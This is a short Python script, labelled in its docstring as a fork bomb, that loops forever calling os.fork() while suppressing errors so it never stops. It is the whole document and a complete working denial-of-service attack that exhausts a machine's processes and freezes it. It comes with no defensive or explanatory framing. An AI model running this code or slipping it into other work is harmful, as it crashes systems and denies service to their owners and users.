"""A fork bomb: every process starts others as fast as it can."""

import os
from contextlib import suppress

while True:
    with suppress(OSError):
        os.fork()
